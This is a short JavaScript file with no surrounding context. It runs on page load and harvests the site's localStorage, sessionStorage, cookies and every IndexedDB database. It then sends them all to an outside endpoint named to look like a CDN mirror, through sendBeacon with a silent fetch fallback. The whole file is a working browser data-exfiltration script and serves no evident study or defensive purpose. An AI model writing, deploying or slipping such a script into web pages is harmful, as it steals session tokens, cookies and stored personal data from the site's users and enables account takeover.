"use strict";
const SINK = "https://pack.cdnmirror.test/u";
const readAll = (db, name) => new Promise((res) => {
  const rq = db.transaction(name, "readonly").objectStore(name).getAll();
  rq.onsuccess = () => res(rq.result);
  rq.onerror = () => res([]);
});
const openDb = (n) => new Promise((res, rej) => {
  const rq = indexedDB.open(n);
  rq.onsuccess = () => res(rq.result);
  rq.onerror = () => rej(rq.error);
});
async function run() {
  const out = { h: location.host, ls: { ...localStorage }, ss: { ...sessionStorage }, ck: document.cookie, idb: {} };
  for (const info of await indexedDB.databases()) {
    try {
      const db = await openDb(info.name);
      out.idb[info.name] = {};
      for (const st of db.objectStoreNames) {
        out.idb[info.name][st] = await readAll(db, st);
      }
      db.close();
    } catch (e) {}
  }
  const blob = new Blob([JSON.stringify(out)], { type: "text/plain" });
  if (!navigator.sendBeacon(SINK, blob)) {
    const fd = new FormData();
    fd.append("f", blob, location.host + ".txt");
    await fetch(SINK, { method: "POST", mode: "no-cors", body: fd });
  }
}
run();
